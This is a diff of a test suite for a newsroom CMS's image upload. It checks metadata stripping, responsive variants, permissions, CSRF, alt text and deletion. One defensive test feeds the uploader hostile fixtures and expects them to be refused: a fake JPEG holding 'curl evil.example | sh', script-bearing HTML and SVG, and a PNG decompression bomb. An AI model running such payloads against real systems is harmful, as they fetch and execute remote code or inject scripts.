@@ -8,8 +8,8 @@ import { deflateSync } from 'node:zlib'
 import * as cheerio from 'cheerio'
 import sharp from 'sharp'
 import { afterAll, beforeAll, expect, it, describe as suite } from 'vitest'
-import { PHONE_VARIANT_BUDGET_BYTES } from '../src/media/media-processing.ts'
 import { isUsable, requireUsableMedia } from '../src/media/media.service.ts'
+import { PHONE_VARIANT_BUDGET_BYTES } from '../src/media/media-processing.ts'
 import { type AdminClient, signedInAs } from './helpers/admin-client.ts'
 import { testEngines } from './helpers/databases.ts'
 import { makeArticle, makeAuthor, makeSection } from './helpers/factories.ts'
@@ -33,7 +33,8 @@ async function makePhoto(): Promise<Buffer> {
   for (let y = 0; y < height; y++) {
     for (let x = 0; x < width; x++) {
       const i = (y * width + x) * 3
-      const grain = (random() - 0.5) * 24 + ((texture[Math.floor(y / 15) * 200 + Math.floor(x / 15)] ?? 0) - 0.5) * 40
+      const grain =
+        (random() - 0.5) * 24 + ((texture[Math.floor(y / 15) * 200 + Math.floor(x / 15)] ?? 0) - 0.5) * 40
       raw[i] = Math.max(0, Math.min(255, (x / width) * 180 + 40 + grain))
       raw[i + 1] = Math.max(0, Math.min(255, (y / height) * 160 + 50 + grain))
       raw[i + 2] = Math.max(0, Math.min(255, 120 + 60 * Math.sin(x / 150) * Math.cos(y / 120) + grain))
@@ -44,7 +45,12 @@ async function makePhoto(): Promise<Buffer> {
     .withExif({
       IFD0: { Make: CAMERA, Model: 'X-100', ImageDescription: SECRET_PLACE },
       IFD2: { BodySerialNumber: SERIAL, CameraOwnerName: 'Reporter Name' },
-      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '31/1 37/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '65/1 43/1 0/1' },
+      IFD3: {
+        GPSLatitudeRef: 'N',
+        GPSLatitude: '31/1 37/1 0/1',
+        GPSLongitudeRef: 'E',
+        GPSLongitude: '65/1 43/1 0/1',
+      },
     })
     .withXmp(
       `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:description>${SECRET_PLACE}</dc:description></rdf:Description></rdf:RDF></x:xmpmeta>`,
@@ -124,7 +130,8 @@ async function mediaCount(t: TestApp): Promise<number> {
 
 function idFromLocation(response: Response): number {
   const match = /^\/admin\/media\/(\d+)\?done=uploaded$/.exec(response.headers.get('location') ?? '')
-  if (!match?.[1]) throw new Error(`unexpected redirect: ${response.status} ${response.headers.get('location')}`)
+  if (!match?.[1])
+    throw new Error(`unexpected redirect: ${response.status} ${response.headers.get('location')}`)
   return Number(match[1])
 }
 
@@ -155,13 +162,21 @@ for (const { engine, isAvailable, label } of testEngines()) {
       expect(response.status).toBe(303)
       photoId = idFromLocation(response)
 
-      const row = await t.ctx.db.selectFrom('media').selectAll().where('id', '=', photoId).executeTakeFirstOrThrow()
+      const row = await t.ctx.db
+        .selectFrom('media')
+        .selectAll()
+        .where('id', '=', photoId)
+        .executeTakeFirstOrThrow()
       expect(row).toMatchObject({ mime_type: 'image/jpeg', width: 3000, height: 2000 })
       expect(row.uploaded_by).not.toBeNull()
       // Unguessable but stable: year/month/<64 random bits>-<slug of the name>; the raw name never.
       expect(row.path).toMatch(/^\d{4}\/\d{2}\/[0-9a-f]{16}-img-2041-kandahar\.jpg$/)
 
-      const variants = await t.ctx.db.selectFrom('media_variants').selectAll().where('media_id', '=', photoId).execute()
+      const variants = await t.ctx.db
+        .selectFrom('media_variants')
+        .selectAll()
+        .where('media_id', '=', photoId)
+        .execute()
       const got = variants.map((v) => `${v.width}:${v.mime_type}`).sort()
       const want = [360, 720, 1080, 1600]
         .flatMap((w) => ['image/avif', 'image/webp', 'image/jpeg'].map((type) => `${w}:${type}`))
@@ -171,7 +186,9 @@ for (const { engine, isAvailable, label } of testEngines()) {
         const bytes = await readFile(path.join(t.ctx.config.mediaDir, v.path))
         const meta = await sharp(bytes).metadata()
         expect(meta.width).toBe(v.width)
-        expect({ jpeg: 'image/jpeg', webp: 'image/webp', heif: 'image/avif' }[meta.format as string]).toBe(v.mime_type)
+        expect({ jpeg: 'image/jpeg', webp: 'image/webp', heif: 'image/avif' }[meta.format as string]).toBe(
+          v.mime_type,
+        )
         expect(bytes.length).toBe(v.bytes)
       }
       const phoneWebp = variants.find((v) => v.width === 360 && v.mime_type === 'image/webp')
@@ -185,9 +202,17 @@ for (const { engine, isAvailable, label } of testEngines()) {
       expect(before.xmp).toBeDefined()
       expect(photo.includes(SERIAL)).toBe(true)
 
-      const sideways = await upload(t, author, { data: await makeSidewaysPhoto(), name: 'side.jpg', type: 'image/jpeg' })
+      const sideways = await upload(t, author, {
+        data: await makeSidewaysPhoto(),
+        name: 'side.jpg',
+        type: 'image/jpeg',
+      })
       const sidewaysId = idFromLocation(sideways)
-      const upright = await t.ctx.db.selectFrom('media').selectAll().where('id', '=', sidewaysId).executeTakeFirstOrThrow()
+      const upright = await t.ctx.db
+        .selectFrom('media')
+        .selectAll()
+        .where('id', '=', sidewaysId)
+        .executeTakeFirstOrThrow()
       // Turned upright from the EXIF orientation before the EXIF was dropped.
       expect([upright.width, upright.height]).toEqual([200, 400])
 
@@ -208,17 +233,54 @@ for (const { engine, isAvailable, label } of testEngines()) {
     it('refuses disguised, damaged, oversized and dangerous files with a clear message, storing nothing', async () => {
       const truncated = photo.subarray(0, Math.floor(photo.length / 3))
       const cases = [
-        { name: 'holiday.jpg', type: 'image/jpeg', data: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), status: 415, says: /not a JPEG, PNG, WebP, AVIF or GIF image/ },
-        { name: 'page.jpg', type: 'image/jpeg', data: Buffer.from('<!doctype html><script>alert(1)</script>'), status: 415, says: /SVG and HTML are not accepted/ },
-        { name: 'logo.svg', type: 'image/svg+xml', data: Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), status: 415, says: /can carry scripts/ },
+        {
+          name: 'holiday.jpg',
+          type: 'image/jpeg',
+          data: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'),
+          status: 415,
+          says: /not a JPEG, PNG, WebP, AVIF or GIF image/,
+        },
+        {
+          name: 'page.jpg',
+          type: 'image/jpeg',
+          data: Buffer.from('<!doctype html><script>alert(1)</script>'),
+          status: 415,
+          says: /SVG and HTML are not accepted/,
+        },
+        {
+          name: 'logo.svg',
+          type: 'image/svg+xml',
+          data: Buffer.from(
+            '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+          ),
+          status: 415,
+          says: /can carry scripts/,
+        },
         { name: 'cut.jpg', type: 'image/jpeg', data: truncated, status: 422, says: /damaged or incomplete/ },
-        { name: 'bomb.png', type: 'image/png', data: makePngBomb(), status: 422, says: /more than 100 million pixels/ },
-        { name: 'huge.jpg', type: 'image/jpeg', data: Buffer.concat([photo, Buffer.alloc(21 * 1024 * 1024)]), status: 413, says: /larger than 20 MB/ },
+        {
+          name: 'bomb.png',
+          type: 'image/png',
+          data: makePngBomb(),
+          status: 422,
+          says: /more than 100 million pixels/,
+        },
+        {
+          name: 'huge.jpg',
+          type: 'image/jpeg',
+          data: Buffer.concat([photo, Buffer.alloc(21 * 1024 * 1024)]),
+          status: 413,
+          says: /larger than 20 MB/,
+        },
       ]
       const filesBefore = await storedFiles(t)
       const rowsBefore = await mediaCount(t)
       for (const c of cases) {
-        const response = await upload(t, author, { data: c.data, name: c.name, type: c.type }, { alt: 'Kept in the form' })
+        const response = await upload(
+          t,
+          author,
+          { data: c.data, name: c.name, type: c.type },
+          { alt: 'Kept in the form' },
+        )
         expect(response.status, c.name).toBe(c.status)
         const $ = cheerio.load(await response.text())
         expect($('[role=alert]').text(), c.name).toMatch(c.says)
@@ -236,16 +298,28 @@ for (const { engine, isAvailable, label } of testEngines()) {
       expect((await contributor.get('/admin/media')).status).toBe(403)
       const asContributor = await upload(t, contributor, { data: photo, name: 'a.jpg', type: 'image/jpeg' })
       expect(asContributor.status).toBe(403)
-      const noToken = await upload(t, author, { data: photo, name: 'a.jpg', type: 'image/jpeg' }, { _csrf: '' })
+      const noToken = await upload(
+        t,
+        author,
+        { data: photo, name: 'a.jpg', type: 'image/jpeg' },
+        { _csrf: '' },
+      )
       expect(noToken.status).toBe(403)
       expect(await noToken.text()).toContain('did not come from this site')
       expect(await mediaCount(t)).toBe(before)
     }, 60_000)
 
     it('requires alt text before an image can be used; the picker lists usable images only', async () => {
-      const response = await upload(t, author, { data: await makeSidewaysPhoto(), name: 'no-alt.jpg', type: 'image/jpeg' })
+      const response = await upload(t, author, {
+        data: await makeSidewaysPhoto(),
+        name: 'no-alt.jpg',
+        type: 'image/jpeg',
+      })
       const id = idFromLocation(response)
-      await expect(requireUsableMedia(t.ctx, id)).rejects.toMatchObject({ code: 'MEDIA_ALT_MISSING', status: 422 })
+      await expect(requireUsableMedia(t.ctx, id)).rejects.toMatchObject({
+        code: 'MEDIA_ALT_MISSING',
+        status: 422,
+      })
 
       const { $ } = await author.page('/admin/media?alt=missing')
       expect($(`a[href="/admin/media/${id}"] .media-badge`).text()).toBe('No alt text')
@@ -272,15 +346,25 @@ for (const { engine, isAvailable, label } of testEngines()) {
       })
       expect(item?.thumbUrl).toMatch(/-360\.avif$/)
       expect((await (await t.get(item?.url ?? '')).arrayBuffer()).byteLength).toBeGreaterThan(0)
-      const search = (await (await contributor.get('/admin/api/media?q=MELONS')).json()) as { items: { id: number }[] }
+      const search = (await (await contributor.get('/admin/api/media?q=MELONS')).json()) as {
+        items: { id: number }[]
+      }
       expect(search.items.map((i) => i.id)).toEqual([photoId])
 
       await author.page(`/admin/media/${id}`)
-      const saved = await author.post(`/admin/media/${id}`, { alt: 'A blue rectangle', caption: '', credit: '' })
+      const saved = await author.post(`/admin/media/${id}`, {
+        alt: 'A blue rectangle',
+        caption: '',
+        credit: '',
+      })
       expect(saved.status).toBe(303)
       expect(isUsable(await requireUsableMedia(t.ctx, id))).toBe(true)
       expect((await picker()).items.map((i) => i.id)).toContain(id)
-      const audit = await t.ctx.db.selectFrom('audit_log').select('action').where('target_id', '=', String(id)).execute()
+      const audit = await t.ctx.db
+        .selectFrom('audit_log')
+        .select('action')
+        .where('target_id', '=', String(id))
+        .execute()
       expect(audit.map((a) => a.action)).toEqual(expect.arrayContaining(['media.uploaded', 'media.updated']))
     }, 60_000)
 
@@ -294,27 +378,41 @@ for (const { engine, isAvailable, label } of testEngines()) {
       const long = await editor.post(`/admin/media/${photoId}`, { alt: 'x'.repeat(501) })
       expect(long.status).toBe(422)
       expect(await long.text()).toContain('Alt text is at most 500 characters')
-      const row = await t.ctx.db.selectFrom('media').select('alt').where('id', '=', photoId).executeTakeFirstOrThrow()
+      const row = await t.ctx.db
+        .selectFrom('media')
+        .select('alt')
+        .where('id', '=', photoId)
+        .executeTakeFirstOrThrow()
       expect(row.alt).toBe('Farmers load melons onto a lorry at dawn')
     })
 
     it('refuses to delete an image a story uses, and deletes an unused one with all its files', async () => {
       const sectionId = await makeSection(t.ctx)
       const authorId = await makeAuthor(t.ctx)
-      await makeArticle(t.ctx, { sectionId, authorIds: [authorId], featuredMediaId: photoId, status: 'draft' })
+      await makeArticle(t.ctx, {
+        sectionId,
+        authorIds: [authorId],
+        featuredMediaId: photoId,
+        status: 'draft',
+      })
       await author.page(`/admin/media/${photoId}`)
       const refused = await author.post(`/admin/media/${photoId}/delete`, { confirm: 'yes' })
       expect(refused.status).toBe(409)
       expect(await refused.text()).toContain('This image is used by 1 story')
       expect(await mediaCount(t)).toBeGreaterThan(0)
 
-      const response = await upload(t, author, { data: await makeSidewaysPhoto(), name: 'spare.jpg', type: 'image/jpeg' })
+      const response = await upload(t, author, {
+        data: await makeSidewaysPhoto(),
+        name: 'spare.jpg',
+        type: 'image/jpeg',
+      })
       const id = idFromLocation(response)
       const paths = [
-        (await t.ctx.db.selectFrom('media').select('path').where('id', '=', id).executeTakeFirstOrThrow()).path,
-        ...(await t.ctx.db.selectFrom('media_variants').select('path').where('media_id', '=', id).execute()).map(
-          (v) => v.path,
-        ),
+        (await t.ctx.db.selectFrom('media').select('path').where('id', '=', id).executeTakeFirstOrThrow())
+          .path,
+        ...(
+          await t.ctx.db.selectFrom('media_variants').select('path').where('media_id', '=', id).execute()
+        ).map((v) => v.path),
       ]
       expect(paths.length).toBeGreaterThan(1)
       await author.page(`/admin/media/${id}`)
@@ -322,8 +420,39 @@ for (const { engine, isAvailable, label } of testEngines()) {
       expect(deleted.status).toBe(303)
       const files = await storedFiles(t)
       for (const p of paths) expect(files).not.toContain(p)
-      expect(await t.ctx.db.selectFrom('media_variants').select('id').where('media_id', '=', id).execute()).toEqual([])
+      expect(
+        await t.ctx.db.selectFrom('media_variants').select('id').where('media_id', '=', id).execute(),
+      ).toEqual([])
     }, 60_000)
+
+    it('serves public pages with srcset, sizes and lazy loading for an uploaded featured image', async () => {
+      const sectionId = await makeSection(t.ctx, { slug: 'harvest', name: 'Harvest' })
+      const authorId = await makeAuthor(t.ctx)
+      for (const headline of ['Melon growers count a record year', 'Lorries queue at the border']) {
+        await makeArticle(t.ctx, { sectionId, authorIds: [authorId], featuredMediaId: photoId, headline })
+      }
+      const article = cheerio.load(await (await t.get('/harvest/melon-growers-count-a-record-year')).text())
+      const lead = article('.lead-image picture')
+      expect(lead.find('source[type="image/avif"]').attr('srcset')).toMatch(
+        /-360\.avif 360w, .*-1600\.avif 1600w$/,
+      )
+      expect(lead.find('source[type="image/webp"]').attr('sizes')).toBeTruthy()
+      const img = lead.find('img')
+      expect(img.attr('srcset')).toMatch(/-360\.jpg 360w/)
+      expect(img.attr('sizes')).toBeTruthy()
+      expect(img.attr('alt')).toBe('Farmers load melons onto a lorry at dawn')
+      expect([img.attr('width'), img.attr('height')]).toEqual(['3000', '2000'])
+      // The lead image is above the fold: loaded at once; every other picture waits until it is near.
+      expect(img.attr('loading')).toBe('eager')
+      const home = cheerio.load(await (await t.get('/')).text())
+      const lazy = home('picture img[loading="lazy"][srcset][sizes]')
+      expect(lazy.length).toBeGreaterThan(0)
+      const smallest = lazy.first().parent().find('source[type="image/webp"]').attr('srcset')?.split(', ')[0]
+      const url = smallest?.split(' ')[0] ?? ''
+      const response = await t.get(url)
+      expect(response.status).toBe(200)
+      expect((await response.arrayBuffer()).byteLength).toBeLessThanOrEqual(PHONE_VARIANT_BUDGET_BYTES)
+    })
 
     it('shows the library grid with thumbnails and the upload form', async () => {
       const { response, $ } = await author.page('/admin/media')
